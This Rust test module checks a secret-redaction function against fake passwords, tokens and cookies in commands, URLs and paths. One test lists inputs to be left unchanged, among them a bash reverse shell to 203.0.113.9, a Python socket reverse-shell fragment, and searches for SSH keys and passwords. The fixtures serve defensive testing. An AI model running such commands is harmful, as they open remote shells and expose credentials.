//! Made-up secrets that look real, in the places where people put them: none may be left. Payloads, encoded or with a
//! secret's name: none may be taken out.

mod payloads;
mod properties;
mod secrets;

use super::*;

/// A line of a corpus: its arguments, and what is marked in them.
#[derive(Clone, Debug)]
struct Line {
    argv: Vec<String>,
    marked: Vec<String>,
}

/// The lines of a corpus: arguments have ` ¦ ` between them, what is marked stands in ⟦ ⟧, and a `·` is left out.
fn corpus(text: &str) -> Vec<Line> {
    let lines = text.lines().filter(|line| !line.is_empty() && !line.starts_with('#'));
    lines.map(line).collect()
}

fn line(text: &str) -> Line {
    let text = text.replace('·', "");
    let marked = text
        .split('⟦')
        .skip(1)
        .map(|piece| piece.split('⟧').next().unwrap_or_default().to_owned());
    Line {
        marked: marked.collect(),
        argv: arguments(&text.replace(['⟦', '⟧'], "")),
    }
}

fn arguments(text: &str) -> Vec<String> {
    text.split(" ¦ ").map(str::to_owned).collect()
}

#[test]
fn a_placeholder_says_where_a_secret_was_and_how_large() {
    for (line, expected) in [
        ("tool --password hunter22", "tool --password <secret:3>"),
        ("mysql -phunter22 shop", "mysql -p<secret:3> shop"),
        ("curl -u me:hunter22 x", "curl -u me:<secret:3> x"),
        ("psql postgres://me:hunter22@db/x", "psql postgres://<secret:3>@db/x"),
        (
            "curl -H 'Authorization: Bearer abcdefgh'",
            "curl -H 'Authorization: Bearer <secret:3>'",
        ),
        (
            "curl -H 'Cookie: a=hunter22; b=hunter22' x",
            "curl -H 'Cookie: <secret:3>; b=<secret:3>' x",
        ),
        (
            r#"{"password":"hunter22","user":"me"}"#,
            r#"{"password":"<secret:3>","user":"me"}"#,
        ),
        ("https://x/?token=hunter22&x=1", "https://x/?token=<secret:3>&x=1"),
        ("echo hunter22 | sudo -S id", "echo <secret:3> | sudo -S id"),
        ("echo q8Zr4Kp2Xw9Lm5Tn7Vb3Yc6Df1Gh0Js", "echo <token:4>"),
    ] {
        assert_eq!(redact(line), expected);
    }
}

#[test]
fn what_is_no_secret_is_left_alone() {
    for line in [
        "find / -name id_rsa -exec ls -la {} ;",
        "grep -ri password /etc",
        "mysql -p shop",
        "tool --password-file /run/secrets/db",
        "tool --password \"$DB_PASSWORD\"",
        "tool --token ${TOKEN}",
        "ssh -i key.pem user@host",
        "scp a user@host:/b",
        "docker pull r.example/x@sha256:abc",
        "curl http://localhost:8080/?mail=a@b",
        "echo x | tee y | sudo -S id",
        "/usr/lib/x86_64-linux-gnu/libstdc++.so.6",
        "bash -i >& /dev/tcp/203.0.113.9/4242 0>&1",
        "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)'",
        "kubectl get pods --all-namespaces -o jsonpath='{.items[*].spec}'",
        "java -Djava.awt.headless=true -XX:+UseContainerSupport com.example.VeryLongClassNameForEverything",
        "https://example.org/a/very-long-path-with-words/index.html?page=2#part",
        "größe=日本語 \u{202e}",
    ] {
        assert_eq!(redact(line), line);
    }
}

#[test]
fn a_path_keeps_its_name_and_loses_its_secrets() {
    for (path, expected) in [
        ("/usr/bin/python3.11", "/usr/bin/python3.11"),
        (
            "/nix/store/q8zr4kp2xw9lm5tn7vb3yc6df1gh0js1-bash-5.2/bin/bash",
            "/nix/store/q8zr4kp2xw9lm5tn7vb3yc6df1gh0js1-bash-5.2/bin/bash",
        ),
        ("/tmp/tmp.aB3dE5fG7hJ9kL1m/run", "/tmp/tmp.aB3dE5fG7hJ9kL1m/run"),
        ("/run/token=correcthorse/x", "/run/token=<secret:3>/x"),
        ("https://me:correcthorse@x/y", "https://<secret:3>@x/y"),
        (
            &["/home/gh", "p_16C7e42F292c6912E7710c838347Ae178B4a/run"].concat(),
            "/home/<secret:5>/run",
        ),
    ] {
        assert_eq!(redact_path(path), expected);
    }
}

#[test]
fn white_space_that_is_not_asciis_ends_a_word_too() {
    assert_eq!(redact("\u{85}<@\""), "\u{85}<@\"");
    assert_eq!(redact("x\u{2003}me:correcthorse@db"), "x\u{2003}me:<secret:3>@db");
}
